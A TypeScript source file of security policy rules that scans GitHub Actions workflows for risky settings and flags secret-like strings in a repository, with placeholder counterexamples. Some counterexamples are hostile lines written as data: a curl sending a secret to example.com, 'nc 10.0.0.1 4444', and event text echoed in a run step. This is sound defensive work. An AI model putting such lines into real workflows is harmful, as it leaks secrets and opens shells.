import { emptySystem, type Rule, type System } from './rule.ts';
import { looksLike, secretRuleIds } from './secret-patterns.ts';

const isWorkflow = (path: string): boolean => /^\.github\/workflows\/.*\.ya?ml$/.test(path);

const withFile = (path: string, text: string): System => ({ ...emptySystem, files: [{ path, text }] });
const withWorkflow = (text: string): System => withFile('.github/workflows/bad.yml', text);

/** A rule on the text of each workflow. */
const workflow = (id: string, says: string, breaks: (text: string) => boolean, bad: string): Rule => ({
  id,
  says,
  reads: 'sources',
  faultsIn: ({ files }) => files.filter(({ path, text }) => isWorkflow(path) && breaks(text)).map(({ path }) => path),
  counterexample: withWorkflow(bad),
});

/** The text of each `run:` of a workflow, of one line or many: what is indented deeper belongs to it. */
function scriptsOf(text: string): readonly string[] {
  const lines = text.split('\n');
  return lines.flatMap((line, index) => {
    const [, key, first = ''] = /^( *(?:- )?)run: ?(.*)$/.exec(line) ?? [];
    if (key === undefined) return [];
    const rest = lines.slice(index + 1);
    const end = rest.findIndex((next) => next.trim() !== '' && next.search(/\S/) <= key.length);
    return [[first, ...rest.slice(0, end < 0 ? undefined : end)].join('\n')];
  });
}

// What looks like a secret and is one of the examples below, or of the tests that look for them.
const examples = /^infra\/test\/policy\/|^package-lock\.json$|\.terraform\.lock\.hcl$/;

const secretExamples: Readonly<Record<string, string>> = {
  CKV_SECRET_1: `key = AKC${'a1'.repeat(8)}`,
  CKV_SECRET_2: `AKIA${'A'.repeat(16)}`,
  CKV_SECRET_3: `AccountKey=${'a'.repeat(88)}`,
  CKV_SECRET_4: 'https://name:secret@example.com',
  CKV_SECRET_5: `cloudant = "${'a1'.repeat(32)}"`,
  CKV_SECRET_7: `ibm-cloud-key = "${'a'.repeat(44)}"`,
  CKV_SECRET_8: `cos_hmac = "${'a1'.repeat(24)}"`,
  CKV_SECRET_9: `eyJ${'a'.repeat(12)}.${'b'.repeat(12)}.${'c'.repeat(12)}`,
  CKV_SECRET_11: `${'a1'.repeat(16)}-us10`,
  CKV_SECRET_12: '//registry.example.com/:_authToken=npm_abc',
  CKV_SECRET_13: ['-----BEGIN ', 'PRIVATE KEY-----'].join(''),
  CKV_SECRET_14: 'xoxb-123-abc',
  CKV_SECRET_15: `softlayer = "${'a1'.repeat(32)}"`,
  CKV_SECRET_16: `sq0csp-${'a'.repeat(43)}`,
  CKV_SECRET_17: `sk_live_${'a'.repeat(24)}`,
  CKV_SECRET_18: `AC${'a1'.repeat(16)}`,
};

/** Rules on the text of the repository: its workflows, and secrets anywhere. */
export const sourceRules: readonly Rule[] = [
  workflow(
    'CKV2_GHA_1',
    'no workflow may do everything from the top',
    (text) => !/^permissions:/m.test(text) || /^permissions: *write-all/m.test(text),
    'permissions: write-all\n',
  ),
  workflow(
    'CKV_GHA_1',
    'no workflow takes commands from what it prints',
    (text) => text.includes('ACTIONS_ALLOW_UNSECURE_COMMANDS'),
    'env:\n  ACTIONS_ALLOW_UNSECURE_COMMANDS: true\n',
  ),
  workflow(
    'CKV_GHA_2',
    'no workflow runs text that came with its event',
    (text) => scriptsOf(text).some((script) => /\$\{\{[^}]*(github\.event|github\.head_ref|inputs\.)/.test(script)),
    `steps:\n  - run: |\n      echo ${'$'}{{ github.event.issue.title }}\n`,
  ),
  workflow(
    'CKV_GHA_3',
    'no workflow sends a secret away',
    (text) => scriptsOf(text).some((script) => /\bcurl\b[^\n]*secrets\./.test(script)),
    `steps:\n  - run: curl example.com?${'$'}{{ secrets.KEY }}\n`,
  ),
  workflow(
    'CKV_GHA_4',
    'no workflow opens a shell to an address',
    (text) => scriptsOf(text).some((script) => /\b(?:nc|netcat)\b[^\n]*\d+\.\d+\.\d+\.\d+/.test(script)),
    'steps:\n  - run: nc 10.0.0.1 4444\n',
  ),
  workflow(
    'CKV_GHA_7',
    'no workflow that is started by hand takes a parameter',
    (text) => /workflow_dispatch:\s*\n\s+inputs:/.test(text),
    'on:\n  workflow_dispatch:\n    inputs:\n      environment: {}\n',
  ),
  ...secretRuleIds.map(
    (id): Rule => ({
      id,
      says: 'no secret of this kind stands in the repository',
      reads: 'sources',
      faultsIn: ({ files }) =>
        files.filter(({ path, text }) => !examples.test(path) && looksLike(id, text)).map(({ path }) => path),
      counterexample: withFile('bad.txt', secretExamples[id] ?? ''),
    }),
  ),
];
